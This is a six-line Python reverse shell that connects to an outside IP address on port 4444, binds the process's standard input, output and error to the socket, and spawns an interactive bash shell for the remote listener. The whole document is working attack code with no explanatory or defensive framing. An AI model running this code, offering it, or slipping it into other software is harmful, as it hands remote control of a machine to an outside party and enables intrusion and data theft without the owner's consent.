import socket, os, pty
s = socket.socket()
s.connect(("91.213.8.44", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
